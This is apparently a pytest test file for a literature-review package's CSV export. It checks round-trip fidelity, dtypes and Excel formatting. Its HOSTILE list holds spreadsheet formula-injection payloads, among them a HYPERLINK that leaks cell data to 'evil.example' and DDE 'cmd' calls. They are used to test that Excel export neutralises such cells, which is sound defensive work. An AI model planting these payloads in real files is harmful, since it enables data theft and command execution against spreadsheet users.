"""CSV export: round trip through read_listing and pandas.read_csv."""

from __future__ import annotations

import io
from pathlib import Path

import pandas as pd
import pytest

import litreview
from litreview.schema import ANNOTATION_COLUMNS, PAPER_COLUMNS, conform
from litreview.writers.csv import join_list, split_list, to_csv


def annotated_sample() -> pd.DataFrame:
    df = conform(litreview.read_listing(litreview.SAMPLE_LISTING), annotated=True)
    df.loc[0, "decision"] = "include"
    df.loc[1, "decision"] = "exclude"
    df.loc[1, "reason"] = "off topic; not ML"
    df.at[0, "tags"] = ["to read", "a;b", "back\\slash"]
    df.loc[0, "note"] = 'Line one\nline two, with "quotes" and ü'
    df.loc[0, "rating"] = 4
    df.loc[0, "decided_by"] = "ana"
    df.loc[0, "decided_at"] = pd.Timestamp("2025-02-03 04:05:06.123456")
    df.at[2, "authors"] = ["Ashish Vaswani", "Noam Shazeer"]
    df.loc[2, "arxiv_id"] = "1706.03762"
    df.loc[2, "url"] = "https://arxiv.org/abs/1706.03762"
    df.loc[3, "upvotes"] = 12
    df.at[3, "keywords"] = ["vision", "transformer"]
    return df


def test_round_trip_through_read_listing_is_lossless(tmp_path: Path) -> None:
    df = annotated_sample()
    path = tmp_path / "papers.csv"
    to_csv(df, path)
    back = litreview.read_listing(path, errors="raise")
    for name in [*PAPER_COLUMNS, *ANNOTATION_COLUMNS]:
        assert back[name].dtype == df[name].dtype, name
        pd.testing.assert_series_equal(back[name], df[name], check_names=True, obj=name)
    assert list(back.columns) == list(df.columns)


def test_plain_sample_round_trip(tmp_path: Path) -> None:
    df = litreview.read_listing(litreview.SAMPLE_LISTING)
    back = litreview.read_listing(to_csv(df, tmp_path / "s.csv") and tmp_path / "s.csv")
    pd.testing.assert_frame_equal(back, df)


def test_pandas_reads_it_with_the_right_dtypes(tmp_path: Path) -> None:
    path = tmp_path / "papers.csv"
    to_csv(annotated_sample(), path)
    plain = pd.read_csv(path)
    assert plain["comments"].dtype.kind == "i"
    assert plain["n_authors"].dtype.kind in "if"
    assert plain["published"].iloc[0] == "2025-01-25"
    typed = pd.read_csv(
        path, dtype_backend="numpy_nullable", parse_dates=["published", "decided_at"]
    )
    assert typed["n_authors"].dtype == "Int64"
    assert typed["comments"].dtype == "Int64"
    assert typed["rating"].dtype == "Int64"
    assert typed["published"].dtype.kind == "M"
    assert typed["decided_at"].iloc[0] == pd.Timestamp("2025-02-03 04:05:06.123456")
    assert typed.loc[2, "authors"] == "Ashish Vaswani; Noam Shazeer"
    assert typed.loc[0, "note"] == 'Line one\nline two, with "quotes" and ü'


def test_excel_flavour_has_a_bom_and_crlf(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    text = to_csv(annotated_sample(), path, excel=True)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfpaper_id,")
    assert text.startswith("\ufeffpaper_id,")
    assert b"\r\n" in raw
    back = litreview.read_listing(path)
    assert back["title"].equals(annotated_sample()["title"])
    assert pd.read_csv(path, encoding="utf-8-sig").columns[0] == "paper_id"


def test_list_cells_escape_separators() -> None:
    items = ["a", "b;c", "d\\e", ""]
    assert join_list(items) == "a; b\\;c; d\\\\e; "
    assert split_list(join_list(items)) == items
    assert split_list("") == []


def test_empty_selection_is_a_header_only_file(tmp_path: Path) -> None:
    path = tmp_path / "empty.csv"
    text = to_csv(litreview.empty_papers(), path)
    assert text == ",".join(PAPER_COLUMNS) + "\n"
    assert len(pd.read_csv(path)) == 0
    back = litreview.read_listing(path)
    assert len(back) == 0 and list(back.columns) == list(PAPER_COLUMNS)


HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def hostile_sample(cells: list[str] = HOSTILE) -> pd.DataFrame:
    """Cells a spreadsheet would run as formulas, in every kind of text column."""
    df = annotated_sample().head(len(cells)).copy()
    for i, cell in enumerate(cells):
        df.loc[i, "title"] = cell
        df.loc[i, "abstract"] = cell + " abstract"
        df.loc[i, "note"] = cell
        df.loc[i, "reason"] = cell
        df.loc[i, "decided_by"] = cell
        df.at[i, "tags"] = [cell, "plain"]
        df.at[i, "authors"] = [cell]
    df["comments"] = df["comments"].fillna(0)
    return df


@pytest.mark.parametrize(
    "cells",
    [
        pytest.param(HOSTILE[:5], id="= + - @ tab"),
        pytest.param(
            HOSTILE[5:],
            id="carriage return",
        ),
    ],
)
def test_plain_csv_round_trips_formula_like_cells_exactly(tmp_path: Path, cells: list[str]) -> None:
    df = hostile_sample(cells)
    path = tmp_path / "hostile.csv"
    to_csv(df, path)
    back = litreview.read_listing(path, errors="raise")
    for name in ("title", "abstract", "note", "reason", "decided_by", "tags", "authors"):
        pd.testing.assert_series_equal(back[name], df[name], obj=name)
    assert back.loc[0, "title"] == cells[0] and back.loc[0, "tags"] == [cells[0], "plain"]


def test_excel_csv_neutralises_every_formula_like_cell(tmp_path: Path) -> None:
    import csv

    df = hostile_sample()
    df["mine"] = ["=1+1", "ok", "-x", "@y", "+z", ""]  # a column of the user's own
    df["delta"] = [-3, 1, 2, 3, 4, 5]  # numbers stay numbers
    path = tmp_path / "hostile.csv"
    to_csv(df, path, excel=True)
    text = path.read_bytes().decode("utf-8-sig")  # not read_text: it turns "\r" into "\n"
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, body = rows[0], rows[1:]
    cells = [dict(zip(header, row, strict=True)) for row in body]
    assert len(cells) == len(HOSTILE)
    for row in cells:
        for name, cell in row.items():
            if name != "delta":
                assert not cell.startswith(FORMULA_START), (name, cell)
    for i, hostile in enumerate(HOSTILE):
        row = cells[i]
        assert row["title"] == row["note"] == row["reason"] == row["decided_by"] == "'" + hostile
        assert row["abstract"] == f"'{hostile} abstract"
        assert row["tags"] == f"'{hostile}; plain" and row["authors"] == "'" + hostile
    assert [row["mine"] for row in cells] == ["'=1+1", "ok", "'-x", "'@y", "'+z", ""]
    assert cells[0]["delta"] == "-3"
    assert cells[2]["published"] == df["published"].iloc[2].strftime("%Y-%m-%d")
